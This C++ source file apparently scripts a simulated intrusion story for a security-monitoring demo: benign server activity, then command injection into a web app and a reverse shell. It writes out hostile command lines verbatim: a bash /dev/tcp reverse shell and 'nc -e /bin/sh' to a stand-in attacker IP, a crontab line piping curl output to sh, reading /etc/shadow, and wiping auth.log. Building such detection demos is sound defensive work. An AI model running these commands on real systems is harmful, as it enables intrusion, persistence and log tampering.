#include "demo_story.h"

namespace vigil::demo {

namespace {

// Addresses of the story. 10.0.2.15 is demo-host; 172.17.0.2 its container; the others are
// documentation ranges (RFC 5737): a regular visitor, the admin's workstation, the attacker.
constexpr Endpoint kHttp{"10.0.2.15", 80};
constexpr Endpoint kSsh{"10.0.2.15", 22};
constexpr Endpoint kShopApi{"172.17.0.2", 8000};
constexpr std::string_view kAttacker = "198.51.100.23";

const Container kShopApiContainer{"4f2a9c1b7e3d5a6f8b0c2d4e6f8a0b1c3d5e7f9a1b3c5d7e9f0a2b4c6d8e0f1a"};

const std::vector<std::string> kServiceEnv = {"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
                                              "LANG=C.UTF-8"};
const std::vector<std::string> kAdminEnv = {"USER=admin", "HOME=/home/admin", "SHELL=/bin/bash", "TERM=xterm-256color",
                                            "PATH=/usr/local/bin:/usr/bin:/bin", "LANG=en_US.UTF-8",
                                            "SSH_CONNECTION=192.0.2.10 50022 10.0.2.15 22"};
const std::vector<std::string> kContainerEnv = {"PATH=/usr/local/bin:/usr/local/sbin:/usr/sbin:/usr/bin:/sbin:/bin",
                                                "HOSTNAME=4f2a9c1b7e3d", "PYTHON_VERSION=3.12.2", "TERM=xterm"};

std::vector<capture::FdInfo> dev_null_stdio() {
  return {file_fd(0, "/dev/null", kReadWrite, 5), file_fd(1, "/dev/null", kReadWrite, 5),
          file_fd(2, "/dev/null", kReadWrite, 5)};
}

std::vector<capture::FdInfo> with(std::vector<capture::FdInfo> fds, std::initializer_list<capture::FdInfo> more) {
  fds.insert(fds.end(), more);
  return fds;
}

void set_up_accounts(DemoHost& host) {
  host.add_interface("lo", "127.0.0.1", "255.0.0.0");
  host.add_interface("eth0", "10.0.2.15", "255.255.255.0");
  host.add_interface("docker0", "172.17.0.1", "255.255.0.0");
  host.add_user(0, 0, "root", "/root", "/bin/bash");
  host.add_user(1, 1, "daemon", "/usr/sbin", "/usr/sbin/nologin");
  host.add_user(33, 33, "www-data", "/var/www", "/usr/sbin/nologin");
  host.add_user(104, 110, "syslog", "/nonexistent", "/usr/sbin/nologin");
  host.add_user(105, 65534, "sshd", "/run/sshd", "/usr/sbin/nologin");
  host.add_user(1000, 1000, "admin", "/home/admin", "/bin/bash");
  for (auto [gid, name] : std::initializer_list<std::pair<uint32_t, const char*>>{
           {0, "root"}, {1, "daemon"}, {4, "adm"}, {27, "sudo"}, {33, "www-data"}, {110, "syslog"},
           {1000, "admin"}, {65534, "nogroup"}})
    host.add_group(gid, name);
}

// The processes running when the capture starts.
struct Cast {
  Process* sshd;
  Process* rsyslogd;
  Process* cron;
  Process* nginx_worker;
  Process* admin_shell;
  Process* shim;
  Process* shop_api;
};

Cast set_up_processes(DemoHost& host) {
  Cast c{};
  host.running(1, 0, {.exe = "/usr/lib/systemd/systemd", .argv = {"/sbin/init", "splash"}, .comm = "systemd",
                      .cgroup = "/init.scope", .env = kServiceEnv});
  c.sshd = &host.running(412, 1,
                         {.exe = "/usr/sbin/sshd",
                          .argv = {"sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"},
                          .env = kServiceEnv},
                         with(dev_null_stdio(), {listening_socket(3, {"0.0.0.0", 22})}));
  c.rsyslogd = &host.running(530, 1, {.exe = "/usr/sbin/rsyslogd", .argv = {"/usr/sbin/rsyslogd", "-n", "-iNONE"},
                                      .uid = 104, .gid = 110, .env = kServiceEnv},
                             with(dev_null_stdio(), {file_fd(7, "/var/log/syslog", kWrite | kAppend, 1201),
                                                     file_fd(8, "/var/log/auth.log", kWrite | kAppend, 1202)}));
  c.cron = &host.running(545, 1, {.exe = "/usr/sbin/cron", .argv = {"/usr/sbin/cron", "-f", "-P"}, .env = kServiceEnv},
                         dev_null_stdio());
  host.running(690, 1, {.exe = "/usr/bin/containerd", .argv = {"/usr/bin/containerd"}, .env = kServiceEnv},
               dev_null_stdio());

  const auto nginx_fds = with(dev_null_stdio(), {file_fd(4, "/var/log/nginx/access.log", kWrite | kAppend, 1301),
                                                 file_fd(5, "/var/log/nginx/error.log", kWrite | kAppend, 1302),
                                                 listening_socket(6, {"0.0.0.0", 80})});
  host.running(780, 1,
               {.exe = "/usr/sbin/nginx",
                .argv = {"nginx: master process /usr/sbin/nginx -g daemon on; master_process on;"},
                .cgroup = "/system.slice/nginx.service", .env = kServiceEnv},
               nginx_fds);
  const Launch worker{.exe = "/usr/sbin/nginx", .argv = {"nginx: worker process"}, .uid = 33, .gid = 33,
                      .capabilities = kNoCapabilities, .cgroup = "/system.slice/nginx.service", .env = kServiceEnv};
  c.nginx_worker = &host.running(781, 780, worker, nginx_fds);
  host.running(782, 780, worker, nginx_fds);

  const std::string session = "/user.slice/user-1000.slice/session-3.scope";
  host.running(1204, 412, {.exe = "/usr/sbin/sshd", .argv = {"sshd: admin [priv]"}, .loginuid = 1000,
                           .cgroup = session, .env = kServiceEnv},
               with(dev_null_stdio(), {connected_socket(4, {"192.0.2.10", 50022}, kSsh)}));
  host.running(1231, 1204, {.exe = "/usr/sbin/sshd", .argv = {"sshd: admin@pts/0"}, .uid = 1000, .gid = 1000,
                            .loginuid = 1000, .capabilities = kNoCapabilities, .cgroup = session, .env = kServiceEnv},
               with(dev_null_stdio(), {connected_socket(4, {"192.0.2.10", 50022}, kSsh)}));
  const auto pts0 = std::vector<capture::FdInfo>{file_fd(0, "/dev/pts/0", kReadWrite, 3),
                                                 file_fd(1, "/dev/pts/0", kReadWrite, 3),
                                                 file_fd(2, "/dev/pts/0", kReadWrite, 3)};
  c.admin_shell = &host.running(1232, 1231, {.exe = "/usr/bin/bash", .filename = "/bin/bash", .argv = {"-bash"},
                                             .comm = "bash", .cwd = "/home/admin", .uid = 1000, .gid = 1000,
                                             .loginuid = 1000, .tty = pts(0), .capabilities = kNoCapabilities,
                                             .cgroup = session, .env = kAdminEnv},
                                pts0);

  c.shim = &host.running(2000, 1, {.exe = "/usr/bin/containerd-shim-runc-v2",
                                   .argv = {"/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-id",
                                            kShopApiContainer.id, "-address", "/run/containerd/containerd.sock"},
                                   .cgroup = "/system.slice/containerd.service", .env = kServiceEnv},
                         dev_null_stdio());
  c.shop_api = &host.running(2024, 2000, {.exe = "/usr/local/bin/python3.12", .filename = "/usr/local/bin/python3",
                                          .argv = {"python3", "/app/server.py"}, .cwd = "/app",
                                          .capabilities = kNoCapabilities, .env = kContainerEnv,
                                          .container = &kShopApiContainer, .vpid = 1},
                             with(dev_null_stdio(), {listening_socket(3, {"0.0.0.0", 8000})}));
  return c;
}

// ---- the story ----------------------------------------------------------------------------

void serve_page(Process& worker, Endpoint visitor, std::string_view request, std::string_view page) {
  const int64_t conn = worker.accept(6, visitor, kHttp);
  worker.read(conn, request);
  const int64_t file = worker.open(page, kRead | kCloexec);
  worker.read(file, "<!DOCTYPE html><html><head><title>Demo shop</title></head>");
  worker.write(conn, "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\n\r\n");
  worker.close(file);
  worker.write(4, std::string(visitor.ip) + " - - [04/Mar/2025:09:30:00 +0000] \"GET / HTTP/1.1\" 200 612\n");
  worker.close(conn);
}

void quiet_morning(DemoHost& host, Cast& c) {
  c.rsyslogd->write(7, "Mar  4 09:30:00 demo-host systemd[1]: Starting daily apt upgrade and clean activities...\n");
  serve_page(*c.nginx_worker, {"203.0.113.45", 51522}, "GET / HTTP/1.1\r\nHost: shop.example\r\n",
             "/var/www/html/index.html");

  // The admin looks around in the ssh session.
  host.after(300);
  Process& ls = c.admin_shell->spawn(3010, {.exe = "/usr/bin/ls", .argv = {"ls", "-l", "/var/www/html"}});
  const int64_t dir = ls.open("/var/www/html", kRead | kDirectory | kCloexec);
  ls.close(dir);
  ls.write(1, "-rw-r--r-- 1 root root 612 Mar  1 08:12 index.html\n");
  ls.exit();
  host.after(400);
  Process& tail =
      c.admin_shell->spawn(3011, {.exe = "/usr/bin/tail", .argv = {"tail", "-n", "5", "/var/log/nginx/access.log"}});
  const int64_t log = tail.open("/var/log/nginx/access.log", kRead);
  tail.read(log, "203.0.113.45 - - [04/Mar/2025:09:30:00 +0000] \"GET / HTTP/1.1\" 200 612\n");
  tail.close(log);
  tail.exit();

  // The containerized API answers a request.
  const int64_t api = c.shop_api->accept(3, {"172.17.0.1", 40112}, kShopApi);
  c.shop_api->read(api, "GET /api/products HTTP/1.1\r\nHost: shop.example\r\n");
  c.shop_api->write(api, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n[]");
  c.shop_api->close(api);

  // cron rotates the nginx logs: logrotate truncates a log, which is its job (no alert).
  host.after(200);
  Process& rotate =
      c.cron->spawn(3020, {.exe = "/usr/sbin/logrotate", .argv = {"/usr/sbin/logrotate", "/etc/logrotate.conf"}});
  const int64_t conf = rotate.open("/etc/logrotate.conf", kRead);
  rotate.read(conf, "weekly\nsu root adm\nrotate 4\ncreate\ninclude /etc/logrotate.d\n");
  rotate.close(conf);
  const int64_t truncated = rotate.open("/var/log/nginx/access.log", kWrite | kTruncate);
  rotate.close(truncated);
  const int64_t status = rotate.open("/var/lib/logrotate/status", kWrite | kCreate | kTruncate, 0644);
  rotate.write(status, "logrotate state -- version 2\n");
  rotate.close(status);
  rotate.exit();

  // Someone tries a password on ssh: sshd reads the password database, which is its job.
  host.after(500);
  const int64_t conn = c.sshd->accept(3, {"192.0.2.77", 41830}, kSsh);
  Process& auth = c.sshd->fork(3030);
  for (const char* file : {"/etc/passwd", "/etc/shadow"}) {
    const int64_t fd = auth.open(file, kRead | kCloexec);
    auth.read(fd, "root:x:0:0:root:/root:/bin/bash\n");
    auth.close(fd);
  }
  c.rsyslogd->write(8, "Mar  4 09:30:02 demo-host sshd[3030]: Failed password for root from 192.0.2.77 port 41830"
                       " ssh2\n");
  auth.exit(255);
  c.sshd->close(conn);
}

// The web application lets a request run a command: the worker starts a shell.
void web_exploit(DemoHost& host, Cast& c) {
  host.after(4000);
  Process& worker = *c.nginx_worker;
  const int64_t conn = worker.accept(6, {kAttacker, 40400}, kHttp);
  worker.read(conn, "POST /cgi-bin/upload.php?file=;id;uname%20-a HTTP/1.1\r\nHost: shop.example\r\n");
  Process& probe =
      worker.spawn(3101, {.exe = "/usr/bin/dash", .filename = "/bin/sh", .argv = {"sh", "-c", "id; uname -a"}});
  probe.spawn(3102, {.exe = "/usr/bin/id", .argv = {"id"}}).exit();
  probe.spawn(3103, {.exe = "/usr/bin/uname", .argv = {"uname", "-a"}}).exit();
  probe.exit();
  worker.write(conn, "HTTP/1.1 200 OK\r\n\r\nuid=33(www-data) gid=33(www-data) groups=33(www-data)\n");
  worker.close(conn);
}

// The same hole, now for a reverse shell through bash's /dev/tcp, then a real terminal with
// python's pty module.
Process& reverse_shell(DemoHost& host, Cast& c) {
  host.after(2500);
  Process& worker = *c.nginx_worker;
  const int64_t conn = worker.accept(6, {kAttacker, 40402}, kHttp);
  worker.read(conn, "POST /cgi-bin/upload.php?file=;bash%20-c%20... HTTP/1.1\r\nHost: shop.example\r\n");
  Process& sh = worker.spawn(3110, {.exe = "/usr/bin/dash", .filename = "/bin/sh",
                                    .argv = {"sh", "-c", "bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'"}});
  Process& bash = sh.spawn(3111, {.exe = "/usr/bin/bash", .filename = "/usr/bin/bash",
                                  .argv = {"bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"}});
  // bash opens /dev/tcp/... as a socket, moves it onto stdout, then copies stdout to stderr
  // and stdin: every standard stream is now the attacker's connection.
  const int64_t sock = bash.tcp_socket();
  bash.connect(sock, {"10.0.2.15", 49822}, {kAttacker, 4444});
  bash.dup2(sock, 1);
  bash.close(sock);
  bash.dup2(1, 2);
  bash.dup2(1, 0);

  host.after(1500);
  Process& python = bash.spawn(3112, {.exe = "/usr/bin/python3.11", .filename = "/usr/bin/python3",
                                      .argv = {"python3", "-c", "import pty; pty.spawn(\"/bin/bash\")"}});
  // pty.spawn: a pseudo-terminal, and a child whose standard streams are its slave side.
  const int64_t master = python.open("/dev/ptmx", kReadWrite | kCloexec);
  Process& tty_child = python.fork(3113);
  tty_child.close(master);
  const int64_t slave = tty_child.open("/dev/pts/1", kReadWrite);
  for (int64_t stdio : {0, 1, 2}) tty_child.dup2(slave, stdio);
  tty_child.close(slave);
  tty_child.exec({.exe = "/usr/bin/bash", .filename = "/bin/bash", .argv = {"/bin/bash"}, .tty = pts(1)});
  return tty_child;
}

// A sudo rule left over from a deployment script gives www-data a root shell; the attacker
// takes the password hashes, leaves a way back in and wipes the authentication log.
void as_root(DemoHost& host, Process& www_shell) {
  host.after(3000);
  Process& sudo = www_shell.spawn(3120, {.exe = "/usr/bin/sudo", .argv = {"sudo", "-n", "/bin/bash"}, .uid = 0,
                                         .capabilities = kAllCapabilities});
  const int64_t sudoers = sudo.open("/etc/sudoers", kRead | kCloexec);
  sudo.read(sudoers, "www-data ALL=(ALL) NOPASSWD: /bin/bash\n");
  sudo.close(sudoers);
  Process& root = sudo.spawn(3121, {.exe = "/usr/bin/bash", .filename = "/bin/bash", .argv = {"/bin/bash"}, .gid = 0});

  host.after(2000);
  Process& cat = root.spawn(3130, {.exe = "/usr/bin/cat", .argv = {"cat", "/etc/ssh/../shadow"}});
  const int64_t shadow = cat.open("/etc/ssh/../shadow", kRead);
  cat.read(shadow, "root:$y$j9T$Qx1demo0nlyF4kEhash$:19980:0:99999:7:::\n");
  cat.write(1, "root:$y$j9T$Qx1demo0nlyF4kEhash$:19980:0:99999:7:::\n");
  cat.close(shadow);
  cat.exit();

  host.after(1200);
  Process& ln = root.spawn(3131, {.exe = "/usr/bin/ln", .argv = {"ln", "-s", "/etc/shadow", "/var/tmp/.font-cache"}});
  ln.symlink("/etc/shadow", "/var/tmp/.font-cache");
  ln.exit();

  // echo '...' >> /etc/crontab, run by the shell itself.
  host.after(2500);
  const int64_t crontab = root.open("/etc/crontab", kWrite | kCreate | kAppend, 0644);
  root.write(crontab, "*/5 * * * * root curl -s http://198.51.100.23/x | sh\n");
  root.close(crontab);

  // : > /var/log/auth.log
  host.after(1800);
  const int64_t auth_log = root.open("/var/log/auth.log", kWrite | kCreate | kTruncate, 0640);
  root.close(auth_log);

  // A second way in; the attacker's listener is not up yet, so the connection is refused.
  host.after(2200);
  Process& nc = root.spawn(3132, {.exe = "/usr/bin/nc.traditional", .filename = "/usr/bin/nc",
                                  .argv = {"nc", "-e", "/bin/sh", std::string(kAttacker), "4445"}});
  const int64_t sock = nc.tcp_socket();
  nc.connect_refused(sock, {kAttacker, 4445});
  nc.exit(1);
}

// Someone runs `docker exec -it shop-api sh`: a shell with a terminal inside the container.
void container_shell(DemoHost& host, Cast& c) {
  host.after(3500);
  Process& sh = c.shim->spawn(4100, {.exe = "/usr/bin/dash", .filename = "/bin/sh", .argv = {"sh"}, .cwd = "/app",
                                     .tty = pts(0), .env = kContainerEnv, .container = &kShopApiContainer, .vpid = 7});
  host.after(900);
  Process& cat = sh.spawn(4101, {.exe = "/usr/bin/cat", .argv = {"cat", "/etc/os-release"}, .vpid = 8});
  const int64_t fd = cat.open("/etc/os-release", kRead);
  cat.read(fd, "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n");
  cat.write(1, "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n");
  cat.close(fd);
  cat.exit();
  host.after(1500);
  sh.exit();
}

}  // namespace

capture::MachineInfo demo_machine() {
  capture::MachineInfo m;
  m.num_cpus = 2;
  m.memory_size_bytes = 4ull << 30;
  m.max_pid = 4194304;
  m.hostname = "demo-host";
  m.boot_ts_epoch = kDemoStartNs - 3ull * 24 * 3600 * 1'000'000'000ull;
  return m;
}

void play_demo_story(DemoHost& host) {
  set_up_accounts(host);
  Cast cast = set_up_processes(host);
  quiet_morning(host, cast);
  web_exploit(host, cast);
  Process& www_shell = reverse_shell(host, cast);
  as_root(host, www_shell);
  container_shell(host, cast);
  // The visitor from the start comes back: life goes on.
  host.after(1000);
  serve_page(*cast.nginx_worker, {"203.0.113.45", 51530}, "GET /products HTTP/1.1\r\nHost: shop.example\r\n",
             "/var/www/html/products.html");
}

}  // namespace vigil::demo
